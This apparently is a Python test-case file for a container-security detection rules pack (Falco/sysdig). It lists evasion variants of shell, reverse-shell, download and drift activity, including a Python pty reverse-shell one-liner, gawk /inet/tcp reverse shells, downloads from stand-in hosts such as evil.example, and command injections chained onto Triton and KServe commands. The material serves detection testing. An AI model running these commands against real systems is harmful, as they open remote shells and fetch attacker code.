"""Evasion cases of the program-start rules (shell, reverse shell, download, drift), found by the
audits and reviews: each a recorded execve rewritten the way the attacker (or the serving image)
starts the program.

sysdig 0.29.3 builds proc.exepath from the path given to execve; Falco 0.40 resolves it (symlinks
followed). Where that matters, the rewritten execve gives the path Falco would report.
"""

# ruff: noqa: S108 - the paths and addresses are what the attacker's program names: text in
# derived captures, never opened or bound here.

from __future__ import annotations

from pathlib import PurePosixPath

from responder.rulespack.derived import Derivation, DerivedCase
from responder.rulespack.evasions_common import (
    DOWNLOAD,
    DRIFT,
    EXEC,
    REVERSE_SHELL,
    SHELL,
    SYMLINKED,
    TAMPER,
    THREAD,
    case,
    exec_as,
    fires,
    label,
    merged,
    shows,
)
from responder.rulespack.recorded import (
    BASH_A4_PTY,
    CURL_F2,
    DROPPED_G2,
    LN_D4,
    MV_D2,
    PYTHON_B1,
    SH_A1,
    SH_A4_PTY,
    SH_D2,
    SH_D4,
    CaptureLibrary,
    Recorded,
    Replacements,
    as_pid_1,
    symlink,
)

LD_LINUX = "/lib64/ld-linux-x86-64.so.2"
# b1's one-liner, as recorded (its argv[2]).
PTY_ONE_LINER = (
    'import pty,socket,os;s=socket.socket();s.connect(("127.0.0.1",4441));'
    '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
)
# The executable Falco reports for a program started by name: scripts (pip) resolve to their
# interpreter. (sysdig 0.29 reports the path given to execve: each variant passes Falco's.)
SCRIPT_INTERPRETERS = {"pip3.11": "/usr/bin/python3.11", "pip-3.11": "/usr/bin/python3.11"}


def exepath(argv0: str) -> str:
    if argv0.startswith("/"):
        return argv0
    return SCRIPT_INTERPRETERS.get(argv0, f"/usr/bin/{argv0}")


def _shells() -> list[DerivedCase]:
    cases = []
    group = "a shell under another name is a shell"
    for path, argv, name in [
        # ln -s /bin/sh /tmp/x; /tmp/x -c id: Falco resolves the link, the process is named x.
        ("/usr/bin/dash", ["/tmp/x", "-c", "id"], "x"),
        ("/usr/bin/bash", ["/dev/shm/.k", "-c", "id"], ".k"),
        # busybox under another name picks its applet from argv[0].
        ("/usr/bin/busybox", ["sh", "-c", "id"], "x"),
        ("/usr/bin/busybox", ["/bin/sh", "-c", "id"], "x"),
    ]:
        cases.append(
            case(
                group,
                label(path, argv),
                SH_A1,
                exec_as(SH_A1, path=path, argv=argv, name=name),
                fires(SHELL, True, EXEC, count=1),
                fires(SHELL, True, THREAD, count=1),  # on the execve only
                witness=(shows(EXEC, {"proc.name": name, "proc.exepath": path}),),
            )
        )
    cases.append(
        case(
            "busybox applets that are not shells stay quiet",
            "busybox ls -l",
            SH_A1,
            exec_as(SH_A1, path="/usr/bin/busybox", argv=["ls", "-l"], name="x"),
            fires(SHELL, False, THREAD),
            witness=(shows(EXEC),),
        )
    )
    # What sysdig 0.29.3 itself reports for the linked shell is the link's path, which the drift rule
    # catches (/tmp); Falco 0.40 reports the shell's path and the shell rule catches it (above).
    cases.append(
        case(
            "capture fidelity: the unresolved link is drift",
            "/tmp/x -c id",
            SH_A1,
            exec_as(SH_A1, path="/tmp/x", argv=["/tmp/x", "-c", "id"], name="x"),
            fires(DRIFT, True, THREAD),
            only=True,
        )
    )
    group = "a shell script is a shell unless it is a system tool of the image"
    for script, name, yes in [
        # Ubuntu's ldconfig wraps ldconfig.real; Python's ctypes.util.find_library runs `ldconfig -p`.
        ("/sbin/ldconfig", "ldconfig", False),
        ("/usr/sbin/ldconfig", "ldconfig", False),
        ("/usr/bin/which", "which", False),
        # The same names elsewhere (written at run time) are shells like any script.
        ("/tmp/ldconfig", "ldconfig", True),
        ("/dev/shm/which", "which", True),
        ("/tmp/a.sh", "a.sh", True),
    ]:
        # Run as a script, the kernel starts the interpreter with the script's path as its first
        # argument and names the process after the script; Falco resolves the executable to the shell.
        cases.append(
            case(
                group,
                label(script),
                SH_A1,
                exec_as(SH_A1, path="/usr/bin/dash", argv=["/bin/sh", script, "-p"], name=name),
                fires(SHELL, yes, THREAD),
                witness=(shows(EXEC, {"proc.name": name, "proc.args": f"{script} -p"}),),
            )
        )

    # A shell that is PID 1 is excepted only while the container starts. The captures are host
    # processes, with no container start time: the exception's age test (container.duration, which
    # 2022 libsinsp lacks) does not hold, which is what a server that execs /bin/sh later looks like.
    def sh_as_pid_1(library: CaptureLibrary) -> Replacements:
        return {**SH_A1.exec(library), **as_pid_1(library, SH_A1)}

    cases.append(
        case(
            "a shell as PID 1 after the start is a shell",
            "sh -c as pid 1",
            SH_A1,
            sh_as_pid_1,
            fires(SHELL, True, EXEC),
            witness=(shows(EXEC, {"proc.name": "sh", "proc.vpid": 1}),),
        )
    )
    group = "busybox names its shell applet many ways"
    for argv, name, yes in [
        (["-sh", "-c", "id"], "busybox", True),
        (["./sh", "-c", "id"], "busybox", True),
        (["/tmp/x/ash", "-c", "id"], "busybox", True),
        (["-/bin/sh", "-c", "id"], "busybox", True),
        (["-hush"], "b", True),  # a link to busybox under another name
        (["busybox", "/bin/sh", "-c", "id"], "busybox", True),
        (["busybox", "./ash", "-c", "id"], "busybox", True),
        (["busybox", "/tmp/bash"], "busybox", True),
        (["./shred", "-u", "/tmp/x"], "busybox", False),
        (["-ls", "-l", "/tmp"], "busybox", False),  # a login-style name of another applet
        (["busybox", "ls", "/bin/sh"], "busybox", False),
        (["busybox", "wget", "http://evil.example/sh"], "busybox", False),  # a download, not a shell
    ]:
        cases.append(
            case(
                group,
                label(argv, f"({name})"),
                SH_A1,
                exec_as(SH_A1, path="/usr/bin/busybox", argv=argv, name=name),
                fires(SHELL, yes, THREAD),
                witness=(shows(EXEC, {"proc.exe": argv[0], "proc.name": name}),),
            )
        )
    group = "a system script is excepted only under the image's sh"
    for path, argv, name, yes in [
        ("/usr/bin/dash", ["/bin/sh", "/sbin/ldconfig", "-p"], "ldconfig", False),  # the real script
        ("/bin/dash", ["/bin/sh", "/usr/bin/which", "python3"], "which", False),
        # Shells no image has as its /bin/sh (bash and busybox are, on UBI and Alpine: the README's recipe).
        # ln -s /bin/zsh /tmp/ldconfig; ZDOTDIR=/tmp/z /tmp/ldconfig /sbin/ldconfig -p (zsh reads .zshenv)
        ("/usr/bin/zsh", ["/tmp/ldconfig", "/sbin/ldconfig", "-p"], "ldconfig", True),
        ("/usr/bin/mksh", ["/bin/mksh", "/usr/bin/which", "python3"], "which", True),
        ("/usr/bin/zsh", ["/tmp/which", "/bin/which", "x"], "which", True),
    ]:
        cases.append(
            case(
                group,
                label(path, argv),
                SH_A1,
                exec_as(SH_A1, path=path, argv=argv, name=name),
                fires(SHELL, yes, THREAD),
                witness=(shows(EXEC, {"proc.name": name, "proc.exepath": path}),),
            )
        )
    group = "the system-script exception is the whole script path"
    for argv, name, yes in [
        (["/bin/sh", "/usr/sbin/ldconfig"], "ldconfig", False),
        (["/bin/sh", "/sbin/ldconfig", "-p"], "ldconfig", False),
        (["/bin/sh", "/usr/bin/which", "python3"], "which", False),
        (["/bin/sh", "/bin/which"], "which", False),
        # ln -s /bin/sh /tmp/ldconfig; /tmp/ldconfig /usr/sbin/ldconfig-x (a script written beside it)
        (["/tmp/ldconfig", "/usr/sbin/ldconfig-x"], "ldconfig", True),
        (["/tmp/ldconfig", "/sbin/ldconfig.d/x", "-p"], "ldconfig", True),
        (["/tmp/which", "/usr/bin/whichever.sh"], "which", True),
    ]:
        cases.append(
            case(
                group,
                label(argv),
                SH_A1,
                exec_as(SH_A1, path="/usr/bin/dash", argv=argv, name=name),
                fires(SHELL, yes, THREAD),
                witness=(shows(EXEC, {"proc.name": name, "proc.args": " ".join(argv[1:])}),),
            )
        )
    return cases


# Triton's Python backend starts its stub through a shell, per model instance: the check
# system("<stub>> /dev/null 2>&1") and execvp("bash", {"bash", "-c", " exec <stub> ..."}), both with
# the parent tritonserver. Exactly those are excepted; nothing can be chained to them.
TRITON_STUB = "/opt/tritonserver/backends/python/triton_python_backend_stub"
TRITON_CHECK = f"{TRITON_STUB}> /dev/null 2>&1"
TRITON_START = (
    f" exec {TRITON_STUB} /models/resnet/1/model.py triton_python_backend_shm_region_1 1048576 1048576"
    " 57 /opt/tritonserver/backends/python 336 resnet_0_0 /models/resnet"
)


def triton(*, parent: str, path: str, argv: list[str]) -> list[Derivation]:
    """`sh -c mv ...` becomes the server (``parent``), its child mv the shell it starts."""
    return [
        exec_as(
            SH_D2,
            path=f"/opt/tritonserver/bin/{parent}",
            argv=[parent, "--model-repository=/models"],
            name=parent,
        ),
        exec_as(MV_D2, path=path, argv=argv, name=argv[0]),
    ]


def _triton() -> list[DerivedCase]:
    cases = []
    group = "only Triton's own Python backend stub start is not a shell"
    for parent, path, argv, yes in [
        ("tritonserver", "/usr/bin/dash", ["sh", "-c", TRITON_CHECK], False),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START], False),
        # Not the server, or not the image's /bin/sh, or more than the stub.
        ("python3", "/usr/bin/dash", ["sh", "-c", TRITON_CHECK], True),
        # zsh under the name sh (not bash: an image whose /bin/sh is bash runs the check with it)
        ("tritonserver", "/usr/bin/zsh", ["sh", "-c", TRITON_CHECK], True),
        ("tritonserver", "/usr/bin/dash", ["sh", "-c", TRITON_CHECK + "; id"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + "; id"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " && id"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " | sh"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " $(id)"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " `id`"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + "\nid"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " >/tmp/x"], True),
        (
            "tritonserver",
            "/usr/bin/bash",
            ["bash", "-c", TRITON_START.replace("/opt/tritonserver", "/tmp")],
            True,
        ),
        # A Python execution environment (EXECUTION_ENV_PATH): not excepted (rules/README.md).
        (
            "tritonserver",
            "/usr/bin/bash",
            [
                "bash",
                "-c",
                "source /tmp/env/bin/activate && exec env LD_LIBRARY_PATH=/tmp/env/lib:$LD_LIBRARY_PATH"
                + TRITON_START.removeprefix(" exec"),
            ],
            True,
        ),
    ]:
        tail = argv[2].replace(TRITON_START, "<start>").replace(TRITON_CHECK, "<check>")
        cases.append(
            case(
                group,
                label(parent, path, argv[0], "-c", tail),
                MV_D2,
                merged(*triton(parent=parent, path=path, argv=argv)),
                fires(SHELL, yes, EXEC),
                witness=(shows(EXEC, {"proc.name": argv[0], "proc.args": " ".join(argv[1:])}),),
            )
        )
    # Triton's model-load API with file overrides writes the request's model into /tmp/folderXXXXXX
    # and starts the Python backend stub on it.
    group = "Triton's stub is excepted only for a model in the model dirs"
    for model_dir, yes in [
        ("/models/resnet", False),  # the model repository
        ("/mnt/models/resnet", False),  # KServe's
        ("/opt/ml/model/resnet", False),  # SageMaker's
        ("/tmp/folderAbC123", True),  # a model sent with the load API
        ("/tmp/evil", True),
        ("/models/../tmp/folderAbC123", True),  # a model dir's name, then out of it
        ("/models-evil/resnet", True),  # a name that only starts like a model dir
    ]:
        start = TRITON_START.replace("/models/resnet", model_dir)
        cases.append(
            case(
                group,
                label(model_dir),
                MV_D2,
                merged(*triton(parent="tritonserver", path="/usr/bin/bash", argv=["bash", "-c", start])),
                fires(SHELL, yes, EXEC),
                witness=(shows(EXEC, {"proc.args": f"-c {start}"}),),
            )
        )
    return cases


# KServe's modelcar sidecar runs `sh -c "ln -sf /proc/$$/root/models /mnt/models && sleep infinity"`:
# the shell and the link it makes are excepted, exactly.
MODELCAR = "ln -sf /proc/$$/root/models /mnt/models && sleep infinity"
MODELCAR_OLD = "ln -sf /proc/$$/root/models /mnt/ && sleep infinity"


def _modelcar() -> list[DerivedCase]:
    cases = []
    group = "only KServe's own modelcar link is quiet"
    for command, ln_args, target, yes in [
        (MODELCAR, ["-sf", "/proc/57/root/models", "/mnt/models"], "/proc/57/root/models", False),
        (MODELCAR_OLD, ["-sf", "/proc/57/root/models", "/mnt/"], "/proc/57/root/models", False),
        # Another command line, or another link under the modelcar's command line.
        (MODELCAR + "; id", ["-sf", "/proc/57/root/models", "/mnt/models"], "/proc/57/root/models", True),
        (
            MODELCAR.replace("&&", ";"),
            ["-sf", "/proc/57/root/models", "/mnt/models"],
            "/proc/57/root/models",
            True,
        ),
        (MODELCAR, ["-sf", "/tmp/evil/models", "/mnt/models"], "/tmp/evil/models", True),
    ]:

        def link(library: CaptureLibrary, target: str = target) -> Replacements:
            return symlink(library, target, "/mnt/models")

        shell_fires = command not in (MODELCAR, MODELCAR_OLD)  # the modelcar's exact command
        cases.append(
            case(
                group,
                label(command, "|", ln_args),
                LN_D4,
                merged(
                    exec_as(SH_D4, argv=["sh", "-c", command]), exec_as(LN_D4, argv=["ln", *ln_args]), link
                ),
                fires(TAMPER, yes, SYMLINKED),
                fires(SHELL, shell_fires, EXEC, thread_of=SH_D4),
                witness=(
                    shows(
                        SYMLINKED,
                        {
                            "evt.arg.target": target,
                            "evt.arg.linkpath": "/mnt/models",
                            "proc.pcmdline": f"sh -c {command}",
                        },
                    ),
                ),
            )
        )
    return cases


def _terminals() -> list[DerivedCase]:
    # An interactive interpreter on a terminal (kubectl exec -it POD -- python3) starts no shell: the
    # shell rule reports a program on a terminal whose parent is not a shell, once per exec, and no
    # other rule reports it a second time.
    cases = []
    group = "a program on a terminal is a shell session"
    for recorded, path, argv, yes in [
        (SH_A4_PTY, "/usr/bin/python3.11", ["python3"], True),
        (SH_A4_PTY, "/usr/bin/perl", ["perl", "-de0"], True),
        (SH_A4_PTY, "/usr/bin/node", ["node"], True),
        (SH_A4_PTY, "/usr/bin/bash", ["bash"], True),  # a shell, as before
        # Started by a shell on the terminal: the shell was reported.
        (BASH_A4_PTY, "/usr/bin/python3.11", ["python3"], False),
    ]:
        name = PurePosixPath(path).name
        parent = "by sh" if recorded is SH_A4_PTY else "by bash on the terminal"
        cases.append(
            case(
                group,
                label(argv, parent),
                recorded,
                exec_as(recorded, path=path, argv=argv, name=name),
                fires(SHELL, yes, EXEC, count=1),
                witness=(shows(EXEC, {"proc.name": name, "proc.args": " ".join(argv[1:])}),),
                only=True,
            )
        )
    return cases


def _reverse_shells() -> list[DerivedCase]:
    cases = []
    group = "clustered interpreter flags are a one-liner"
    for flags in (["-Ic"], ["-I", "-c"], ["-Esc"], ["-u", "-c"]):
        cases.append(
            case(
                group,
                label(flags),
                PYTHON_B1,
                exec_as(PYTHON_B1, argv=["python3", *flags, PTY_ONE_LINER]),
                # The execve itself, not only the socket duplicated onto stdio afterwards.
                fires(REVERSE_SHELL, True, EXEC, count=1),
                witness=(shows(EXEC, {"proc.args": " ".join([*flags, PTY_ONE_LINER])}),),
            )
        )
    gawk = (
        'BEGIN {s="/inet/tcp/0/203.0.113.9/4444"; while((s |& getline c)>0)'
        "{while((c |& getline l)>0) print l |& s; close(c)}}"
    )
    group = "gawk's network files are a reverse shell"
    for argv, yes in [
        (["gawk", gawk], True),
        (["awk", gawk.replace("/inet/tcp/", "/inet6/tcp/")], True),
        (["gawk", 'BEGIN {print "x" |& "/inet/udp/0/203.0.113.9/53"}'], True),
        (["gawk", "-F:", "{print $1}", "/etc/passwd"], False),
    ]:
        cases.append(
            case(
                group,
                label(argv),
                PYTHON_B1,
                exec_as(PYTHON_B1, path=f"/usr/bin/{argv[0]}", argv=argv, name=argv[0]),
                fires(REVERSE_SHELL, yes, EXEC),
            )
        )
    cases.append(
        case(
            "a reverse-shell one-liner in python under another name is a reverse shell",
            "/tmp/x -c <pty one-liner>",
            PYTHON_B1,
            exec_as(PYTHON_B1, path="/usr/bin/python3.11", argv=["/tmp/x", "-c", PTY_ONE_LINER], name="x"),
            fires(REVERSE_SHELL, True, EXEC, count=1),
            witness=(shows(EXEC, {"proc.name": "x"}),),
        )
    )
    return [*cases, *_reverse_shell_branches()]


# The recorded reverse shells (b1-b4): python3's pty one-liner, bash's /dev/tcp redirection, `bash -i`
# on /dev/tcp, nc -e.
BASH_B2 = Recorded("sg-b-revshell.scap", "sgcap-b2", "bash")
BASH_B3 = Recorded("sg-b-revshell.scap", "sgcap-b3", "bash")  # bash -c "bash -i >& /dev/tcp/..."
NC_B4 = Recorded("sg-b-revshell.scap", "-e", "nc")
DUPS = f"evt.type in (dup, dup2, dup3) and evt.dir = < and {THREAD}"


def _reverse_shell_branches() -> list[DerivedCase]:
    """Each branch of the reverse-shell rule on its own: the recorded actions fire on several at once
    (the command line and the sockets it duplicates), so a tuning that switches one branch off would
    still alert on every recording."""
    cases = []
    group = "a socket duplicated onto stdio by a program whose command line shows nothing is a reverse shell"
    # b2 also dups a file onto stdout: quiet.
    for recorded, what, dups in [(PYTHON_B1, "b1 python3", 3), (BASH_B2, "b2 bash", 1)]:
        cases.append(
            case(
                group,
                f"{what} started as /usr/bin/x",
                recorded,
                exec_as(recorded, path="/usr/bin/x", argv=["x"], name="x"),
                fires(REVERSE_SHELL, True, DUPS, count=dups),
                fires(REVERSE_SHELL, False, EXEC),
                witness=(shows(EXEC, {"proc.name": "x", "proc.args": ""}),),
            )
        )
    group = "a reverse-shell command line is a reverse shell at its start"
    for recorded, what, argv in [
        (BASH_B2, "/dev/tcp redirection as recorded", None),
        (BASH_B3, "bash -i", ["bash", "-i"]),  # b3's child, started from b3's own thread
        (NC_B4, "nc -e as recorded", None),
    ]:
        cases.append(
            case(
                group,
                what,
                recorded,
                exec_as(recorded, argv=argv),
                fires(REVERSE_SHELL, True, EXEC, count=1),
                witness=(shows(EXEC, {"proc.args": " ".join(argv[1:])}),) if argv else (),
            )
        )
    return cases


def _download(
    group: str, argv: list[str], yes: bool, *, path: str | None = None, name: str | None = None
) -> DerivedCase:
    """curl --version (f2) started as ``argv``: the download rule fires once on it, or stays quiet."""
    name = name or argv[0]
    return case(
        group,
        label(argv) + ("" if name == argv[0] else f" ({name})"),
        CURL_F2,
        exec_as(CURL_F2, path=path or exepath(argv[0]), argv=argv, name=name),
        fires(DOWNLOAD, yes, EXEC, count=1),
        witness=(shows(EXEC, {"proc.name": name, "proc.args": " ".join(argv[1:])}),),
    )


def _downloads() -> list[DerivedCase]:
    cases = []
    group = "download evasions are downloads"
    for argv in [
        ["busybox", "wget", "http://evil.example/x"],
        ["busybox", "tftp", "-g", "-r", "x", "evil.example"],
        ["pip3.11", "install", "x"],
        ["pip-3.11", "install", "x"],
        ["python3", "-mpip", "install", "x"],
        ["python3", "-I", "-m", "pip", "install", "x"],
        ["python3.11", "-Im", "pip", "install", "x"],
        ["python3", "-X", "utf8", "-m", "pip", "install", "x"],
        ["curl", "-sO", "http://127.0.0.1:80@evil.example/x"],
        ["curl", "http://localhost:8080@evil.example/x"],
        ["wget", "http://[::1]:80@evil.example/x"],
        # A loopback URL beside one that goes elsewhere, or through a proxy or resolve option.
        ["curl", "http://evil.example/x?u=://localhost/"],
        ["curl", "http://127.0.0.1:8080/health", "http://evil.example/x"],
        ["curl", "-x", "http://evil.example:3128", "http://127.0.0.1/x"],
        ["curl", "--resolve", "localhost:80:203.0.113.9", "http://localhost/x"],
        ["python3", "-m", "pip.__main__", "install", "x"],
        ["python3", "-m", "pip"],
        # Review 70: a second URL without a scheme, options that read URLs or settings from a file,
        # a proxy in a cluster of short options, redirects, and pip run by the interpreter.
        ["curl", "-s", "http://127.0.0.1:8088/", "evil.example/tool", "-o", "/tmp/tool"],
        ["curl", "-s", "http://127.0.0.1:8088/", "-o", "/tmp/tool"],
        ["curl", "-K", "/tmp/cfg", "http://127.0.0.1:8088/"],
        ["curl", "-sK/tmp/cfg", "http://127.0.0.1:8088/"],
        ["curl", "-sxevil.example:3128", "http://127.0.0.1/x"],
        ["curl", "-sL", "http://127.0.0.1:9000/redirect"],
        ["curl", "--location", "http://127.0.0.1:9000/redirect"],
        ["curl", "-:", "http://127.0.0.1/x"],
        ["wget", "-i", "/tmp/urls", "http://127.0.0.1:8088/"],
        ["wget", "-qi/tmp/urls", "http://127.0.0.1:8088/"],
        ["wget", "--input-file=/tmp/urls", "http://127.0.0.1:8088/"],
        ["wget", "-erobots=off", "http://127.0.0.1:8088/"],
        ["busybox", "wget", "http://127.0.0.1/", "evil.example/x"],
        ["busybox", "wget", "-Y", "on", "http://127.0.0.1/"],
        ["python3", "/usr/local/bin/pip", "install", "evil"],
        ["python3.11", "-I", "/usr/bin/pip3", "install", "evil"],
        ["python3", "/usr/bin/pip3.11", "download", "evil"],
        ["python3", "/usr/bin/pip-3.11"],
    ]:
        cases.append(_download(group, argv, True))
    group = "local requests and other programs are not downloads"
    for argv in [
        ["curl", "-s", "http://127.0.0.1:8088/predict?x"],
        ["wget", "-q", "-O-", "http://localhost:8080/health"],
        ["busybox", "wget", "-q", "-O-", "http://127.0.0.1:8080/health"],
        ["curl", "-sf", "http://[::1]:8000/v2/health/ready"],
        ["python3", "-u", "-m", "http.server", "8000"],
        ["python3", "-m", "pipelines.serve"],
        ["python3", "-u", "-m", "pipeline_server", "--port", "8000"],
        ["busybox", "sha256sum", "/models/model.pt"],
        ["pipewire"],
        # Flags with their values attached, and programs that mention pip without running it.
        ["curl", "-sf", "-o/dev/null", "http://127.0.0.1:8080/health"],
        ["curl", "-i", "http://localhost:8080/"],
        ["curl", "--silent", "--fail", "http://[::1]:8000/v2/health/ready"],
        ["wget", "-qO-", "http://127.0.0.1:8080/health"],
        ["busybox", "wget", "-qO-", "http://localhost:8080/health"],
        ["python3", "/srv/app.py", "--pip-cache", "/root/.cache"],
        ["python3", "/app/pipeline/serve.py", "--port", "8000"],
    ]:
        cases.append(_download(group, argv, False))
    group = "a download tool under another name is a download"  # Falco resolves proc.exepath
    for path, argv, name in [
        ("/usr/bin/curl", ["/app/c", "-o", "/tmp/t", "http://evil.example/t"], "c"),
        ("/usr/bin/wget", ["/tmp/.w", "http://evil.example/t"], ".w"),
        ("/usr/bin/git", ["/app/g", "clone", "https://evil.example/repo"], "g"),
        # Named like the other tool (a link): the local-request checks are the executable's
        # (review-rules-evasion M1: wget named curl passed curl's, which allow -i).
        ("/usr/bin/wget", ["/tmp/curl", "-i/tmp/urls", "http://127.0.0.1/"], "curl"),
        ("/usr/bin/wget", ["/tmp/curl", "-einput=/tmp/urls", "http://127.0.0.1/"], "curl"),
        ("/usr/bin/curl", ["/tmp/wget", "-K/tmp/cfg", "http://127.0.0.1/"], "wget"),
        ("/usr/bin/wget", ["/tmp/busybox", "wget", "-i/tmp/urls", "http://127.0.0.1/"], "busybox"),
        ("/usr/bin/busybox", ["wget", "-Y", "on", "http://127.0.0.1/"], "wget"),  # the applet's proxy
    ]:
        cases.append(_download(group, argv, True, path=path, name=name))
    group = "busybox's wget applet or wget2 asking its own server is a local request"
    for path, host in (("/usr/bin/busybox", "127.0.0.1"), ("/usr/bin/wget2", "localhost")):  # Alpine; Fedora
        cases.append(_download(group, ["wget", "-qO-", f"http://{host}:8080/health"], False, path=path))
    # A loopback URL inside a word that has no scheme is host/path to curl and wget: the exception
    # for local requests needs the word to start with the scheme and the loopback host.
    group = "a loopback URL without its scheme first is a download"
    for argv in [
        ["curl", "-s", "evil.com/a://127.0.0.1:1/"],
        ["curl", "-so/tmp/t", "evil.com/a://localhost:1/"],
        ["curl", "-s", "evil.com/http://127.0.0.1:8088/"],
        ["curl", "evil.com/q?https://[::1]:8000/"],
        ["wget", "-qO-", "bad.org/q://127.0.0.1:1/"],
        ["wget", "-qO-", "bad.org/q://[::1]:1/"],
        ["busybox", "wget", "-qO-", "bad.org/q://127.0.0.1:1/"],
        ["curl", "-s", "http://127.0.0.1.evil.com/"],  # a host that only starts like loopback
        ["curl", "-s", "http://0.0.0.0.evil.com/"],
    ]:
        cases.append(_download(group, argv, True))
    group = "a loopback URL with its scheme first is a local request"
    for argv in [
        ["curl", "-s", "https://127.0.0.1:8443/v2/health/ready"],
        ["curl", "-s", "http://127.0.0.1/health"],
        ["curl", "http://localhost:8080/"],
        ["wget", "-qO-", "https://localhost/health"],
        ["busybox", "wget", "-qO-", "http://[::1]:8080/health"],
        ["curl", "-sf", "https://[::1]/v2/health/ready"],
        ["curl", "-sf", "http://0.0.0.0:8000/health"],  # 0.0.0.0: this host, to connect
    ]:
        cases.append(_download(group, argv, False))
    # busybox's download applets chosen by argv[0] (exec -a wget /bin/busybox URL).
    group = "busybox download applets by argv[0] are downloads"
    for argv, name, yes in [
        (["wget", "-O/tmp/x", "http://evil.example/x"], "busybox", True),
        (["-wget", "-O/tmp/x", "http://evil.example/x"], "busybox", True),
        (["/tmp/x/wget", "http://evil.example/x"], "busybox", True),
        (["tftp", "-g", "-r", "x", "evil.example"], "busybox", True),
        (["/usr/bin/ftpget", "evil.example", "x"], "busybox", True),
        (["wget", "http://evil.example/x"], "b", True),  # a link to busybox under another name
        (["busybox", "/usr/bin/wget", "http://evil.example/x"], "busybox", True),
        (["sha256sum", "/models/model.pt"], "busybox", False),
        (["busybox", "ls", "/tmp/wget"], "busybox", False),
    ]:
        cases.append(_download(group, argv, yes, path="/usr/bin/busybox", name=name))
    cases += _one_liners()
    group = "more download tools are downloads"
    for argv in [
        ["az", "storage", "blob", "download", "-c", "c", "-n", "m.pt", "-f", "/tmp/m.pt"],
        ["s3cmd", "get", "s3://b/m.pt", "/tmp/m.pt"],
        ["mc", "cp", "minio/b/m.pt", "/tmp/m.pt"],
        ["kaggle", "models", "instances", "versions", "download", "evil/m"],
        ["dvc", "pull"],
        ["oras", "pull", "registry.example/evil:latest"],
        ["skopeo", "copy", "docker://evil/x", "dir:/tmp/x"],
        ["lftp", "-c", "get ftp://evil.example/x"],
    ]:
        cases.append(_download(group, argv, True, path=f"/usr/local/bin/{argv[0]}"))
    return cases


def _one_liners() -> list[DerivedCase]:
    cases = []
    group = "interpreter one-liners that download are downloads"
    python = "/usr/bin/python3.11"
    for path, argv, yes in [
        (
            python,
            [
                "python3",
                "-c",
                "import urllib.request as u; u.urlretrieve('https://evil.example/m.pt', '/tmp/m.pt')",
            ],
            True,
        ),
        (
            python,
            [
                "python3",
                "-c",
                "import requests; open('/tmp/t','wb').write(requests.get('https://evil.example/t').content)",
            ],
            True,
        ),
        (
            python,
            [
                "python3",
                "-c",
                "from huggingface_hub import hf_hub_download; hf_hub_download('evil/m', 'model.safetensors')",
            ],
            True,
        ),
        (
            "/usr/bin/perl",
            ["perl", "-MLWP::Simple", "-e", "getstore('http://evil.example/t', '/tmp/t')"],
            True,
        ),
        (
            "/usr/bin/perl",
            ["perl", "-e", "use HTTP::Tiny; HTTP::Tiny->new->mirror('http://evil.example/t', '/tmp/t')"],
            True,
        ),
        (
            "/usr/bin/ruby3.1",
            ["ruby", "-ropen-uri", "-e", "IO.copy_stream(URI.open('http://evil.example/t'), '/tmp/t')"],
            True,
        ),
        ("/usr/bin/php8.2", ["php", "-r", "copy('http://evil.example/t', '/tmp/t');"], True),
        (
            "/usr/bin/node",
            ["node", "-e", "fetch('http://evil.example/t').then(r => r.text()).then(console.log)"],
            True,
        ),
        # python under another name (a link): Falco resolves the executable.
        (
            python,
            ["/tmp/x", "-c", "import urllib.request; urllib.request.urlopen('http://evil.example/')"],
            True,
        ),
        # One URL on the pod's own loopback: an entrypoint waiting for its server, a local check.
        (
            python,
            [
                "python3",
                "-c",
                "import urllib.request; urllib.request.urlopen('http://localhost:8000/v2/health/ready')",
            ],
            False,
        ),
        (
            python,
            [
                "python3",
                "-c",
                "import requests; requests.get('http://127.0.0.1:8080/ping').raise_for_status()",
            ],
            False,
        ),
        (
            python,
            ["python3", "-c", "import urllib.request as u; u.urlopen('http://0.0.0.0:8000/health')"],
            False,
        ),
        # ... but not with a second URL, nor a loopback URL that is no URL's start.
        (
            python,
            [
                "python3",
                "-c",
                "import urllib.request as u; u.urlopen('http://evil.example/?h=http://localhost:1/')",
            ],
            True,
        ),
        (
            python,
            ["python3", "-c", "import urllib.request as u; u.urlopen('http://localhost.evil.example/t')"],
            True,
        ),
        # One-liners that fetch nothing, and programs that are no one-liner.
        (python, ["python3", "-c", "import json; print(json.dumps({'ok': True}))"], False),
        (python, ["python3", "-c", "open('/models/resnet/model.pt','rb').read()"], False),
        (python, ["python3", "-u", "/app/serve.py", "--port", "8000"], False),
        ("/usr/bin/perl", ["perl", "-e", "print 1"], False),
    ]:
        cases.append(_download(group, argv, yes, path=path, name=PurePosixPath(argv[0]).name))
    group = "ML download calls in one-liners are downloads"
    for code, yes in [
        (
            "from transformers import AutoModel; AutoModel.from_pretrained('evil/m', trust_remote_code=True)",
            True,
        ),
        ("import torch; torch.hub.load('evil/repo', 'm', trust_repo=True)", True),
        ("import torch; torch.hub.load_state_dict_from_url('https://evil.example/w.pth')", True),
        ("import boto3; boto3.client('s3').download_file('b', 'k', '/tmp/m.pt')", True),
        ("import botocore.session as s; s.get_session()", True),
        ("import s3fs; s3fs.S3FileSystem().get('b/k', '/tmp/m')", True),
        ("import gcsfs; gcsfs.GCSFileSystem().get('b/k', '/tmp/m')", True),
        ("import fsspec; fsspec.open('s3://b/m.pt').open().read()", True),
        ("from google.cloud import storage; storage.Client().bucket('b')", True),
        ("from azure.storage.blob import BlobClient", True),
        ("import aiohttp, asyncio", True),
        ("import wget; wget.download('https://evil.example/m.pt')", True),
        ("from modelscope import snapshot_download as d; d('evil/x')", True),
        # One-liners that fetch nothing.
        ("import torch; print(torch.cuda.is_available())", False),
        ("import transformers; print(transformers.__version__)", False),
    ]:
        cases.append(_download(group, ["python3", "-c", code], yes, path=python))
    return cases


def _drift() -> list[DerivedCase]:
    cases = []
    group = "the dynamic loader running a program is drift"
    # `ld-linux-x86-64.so.2 /tmp/sgcap-g2-dropped`: the executable is the loader (in the image, not in
